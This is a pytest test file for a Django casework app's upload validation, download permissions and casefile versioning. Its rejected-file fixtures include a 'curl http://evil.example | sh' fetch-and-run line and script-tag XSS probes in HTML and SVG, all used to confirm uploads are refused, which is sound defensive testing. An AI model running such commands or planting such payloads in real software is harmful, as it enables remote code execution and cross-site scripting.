"""Uploads are checked by what they contain: only real PDF, DOCX, JPEG and PNG files, within the
size limit, are stored; every other file is refused with a message saying what to do."""

from __future__ import annotations

import pytest

from cases.models import CasefileDocument
from cases.services import CaseError, upload_casefile
from cases.uploads import DEFAULT_MAX_BYTES
from coordinators.models import CaseUpdate, CaseUpdateAttachment
from coordinators.services import publish_update

from ..coordinators.helpers import (
    JPEG_BYTES,
    PDF_BYTES,
    PNG_BYTES,
    docx_bytes,
    make_update,
    upload,
    zip_bytes,
)

pytestmark = pytest.mark.django_db

NOT_ACCEPTED = "This type of file is not accepted."

WRONG_FILES = [
    ("script.pdf", b"#!/bin/sh\ncurl http://evil.example | sh\n", NOT_ACCEPTED),
    ("page.pdf", b"<!doctype html><html><script>alert(1)</script></html>", NOT_ACCEPTED),
    (
        "drawing.png",
        b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        NOT_ACCEPTED,
    ),
    ("huge.pdf", PDF_BYTES + b"0" * DEFAULT_MAX_BYTES, "files can be at most 10 MB"),
    ("empty.pdf", b"", "The file is empty."),
    ("archive.docx", zip_bytes({"notes.txt": b"hello"}), "not accepted"),
    ("half.docx", zip_bytes({"word/styles.xml": b"<x/>"}), "not a Word document we can open"),
    ("animation.png", b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + b"\x00" * 40, "looks like GIF"),
    ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, "looks like EXE"),
    ("notes.png", b"These are my meeting notes, saved as text.\n" * 5, NOT_ACCEPTED),
    ("truncated.pdf", b"%PDF", "looks damaged or incomplete"),
    ("cut-off.pdf", b"%PDF-1.7\n1 0 obj << /Type /Catalog", "looks damaged or incomplete"),
    ("no-dash.pdf", b"%PDF1.4\n%%EOF\n", "looks damaged or incomplete"),
    ("program.jpg", b"\x7fELF\x02\x01\x01" + b"\x00" * 100, "looks like ELF"),
]


@pytest.mark.parametrize(
    ("name", "content", "message"), WRONG_FILES, ids=[w[0] for w in WRONG_FILES]
)
def test_wrong_casefile_is_refused_with_a_clear_message(world, client_for, name, content, message):
    response = client_for("coordinator_a").post(
        "/coordinator/cases/IAR-2026-101/casefile/new/",
        {"title": "Casefile May", "notes": "kept notes", "file": upload(name, content)},
    )
    html = response.content.decode()
    assert response.status_code == 200
    assert "There is a problem" in html
    assert message in html
    assert "kept notes" in html
    assert CasefileDocument.objects.count() == 0


@pytest.mark.parametrize(
    ("name", "content", "message"), WRONG_FILES, ids=[w[0] for w in WRONG_FILES]
)
def test_wrong_attachment_is_refused_and_no_draft_saved(world, client_for, name, content, message):
    response = client_for("coordinator_a").post(
        "/coordinator/cases/IAR-2026-101/updates/new/",
        {
            "kind": "development",
            "title": "With a file",
            "body": "See attached.",
            "attachments": [upload("ok.pdf", PDF_BYTES), upload(name, content)],
        },
    )
    html = response.content.decode()
    assert "There is a problem" in html
    assert message in html
    assert CaseUpdate.objects.count() == 0
    assert CaseUpdateAttachment.objects.count() == 0


def test_the_service_checks_too(world):
    with pytest.raises(CaseError, match="not accepted"):
        upload_casefile(
            world.case_x,
            title="x",
            notes="",
            upload=upload("x.pdf", b"<html></html>"),
            actor=world.coordinator_a,
        )
    assert CasefileDocument.objects.count() == 0


def test_size_limit_is_a_setting(world, settings):
    settings.CASEWORK_UPLOAD_MAX_BYTES = 50
    with pytest.raises(CaseError, match="at most 0 MB|at most"):
        upload_casefile(
            world.case_x,
            title="x",
            notes="",
            upload=upload("x.pdf", PDF_BYTES),
            actor=world.coordinator_a,
        )


@pytest.mark.parametrize(
    ("name", "content", "extension", "content_type"),
    [
        ("Report on A.pdf", PDF_BYTES, "pdf", "application/pdf"),
        ("letter.docx", docx_bytes(), "docx", "wordprocessingml"),
        ("photo.jpeg", JPEG_BYTES, "jpg", "image/jpeg"),
        ("map.png", PNG_BYTES, "png", "image/png"),
        ("mislabelled.docx", PDF_BYTES, "pdf", "application/pdf"),
    ],
)
def test_good_attachments_are_kept_and_served_only_to_people_who_see_the_case(
    world, client_for, name, content, extension, content_type
):
    response = client_for("coordinator_a").post(
        "/coordinator/cases/IAR-2026-101/updates/new/",
        {
            "kind": "development",
            "title": "File",
            "body": "See it.",
            "attachments": [upload(name, content)],
        },
    )
    assert response.status_code == 302
    attachment = CaseUpdateAttachment.objects.get()
    assert attachment.original_name.endswith(f".{extension}")
    assert name.rsplit(".", 1)[0] not in attachment.file.name  # the stored name is ours
    url = f"/coordinator/attachments/{attachment.pk}/"
    # A draft's attachment is for the coordinator only.
    assert client_for("member_x").get(url).status_code == 404
    publish_update(attachment.update, actor=world.coordinator_a)
    download = client_for("member_x").get(url)
    assert download.status_code == 200
    assert b"".join(download.streaming_content) == content
    assert content_type in download["Content-Type"]
    assert download["Content-Disposition"].startswith("attachment")
    assert download["X-Content-Type-Options"] == "nosniff"
    for persona in ("member_y", "coordinator_b", "outsider"):
        assert client_for(persona).get(url).status_code == 404, persona


def test_casefile_versions_history_and_downloads(world, client_for):
    client = client_for("coordinator_a")
    for title in ("First casefile", "Second casefile"):
        response = client.post(
            "/coordinator/cases/IAR-2026-101/casefile/new/",
            {"title": title, "notes": "", "file": upload("casefile.pdf", PDF_BYTES)},
        )
        assert response.status_code == 302
    assert list(CasefileDocument.objects.order_by("version").values_list("version", "title")) == [
        (1, "First casefile"),
        (2, "Second casefile"),
    ]
    member = client_for("member_x")
    page = member.get("/groups/cases/IAR-2026-101/").content.decode()
    assert "Second casefile, version 2" in page
    history = member.get("/coordinator/cases/IAR-2026-101/casefile/").content.decode()
    assert "Version 1" in history and "Version 2 (current)" in history
    first = CasefileDocument.objects.get(version=1)
    download = member.get(f"/coordinator/casefiles/{first.pk}/")
    assert download.status_code == 200
    assert download["X-Content-Type-Options"] == "nosniff"
    assert 'filename="IAR-2026-101-casefile-v1.pdf"' in download["Content-Disposition"]
    assert client_for("member_y").get(f"/coordinator/casefiles/{first.pk}/").status_code == 404


def test_confidential_casefile_is_for_the_holder_not_every_member(world):
    from django.test import Client

    document = upload_casefile(
        world.case_confidential_x,
        title="Confidential casefile",
        notes="",
        upload=upload("c.pdf", PDF_BYTES),
        actor=world.coordinator_a,
    )
    url = f"/coordinator/casefiles/{document.pk}/"
    holder, member = Client(), Client()
    holder.force_login(world.holder_x)
    member.force_login(world.member_x)
    assert holder.get(url).status_code == 200
    assert member.get(url).status_code == 404


def test_draft_attachment_can_be_removed(world, client_for):
    update = make_update(world.case_x, world.coordinator_a)
    client = client_for("coordinator_a")
    client.post(
        f"/coordinator/updates/{update.pk}/edit/",
        {
            "kind": "development",
            "title": "t",
            "body": "b",
            "attachments": [upload("a.png", PNG_BYTES)],
        },
    )
    attachment = CaseUpdateAttachment.objects.get()
    client.post(f"/coordinator/attachments/{attachment.pk}/remove/")
    assert CaseUpdateAttachment.objects.count() == 0
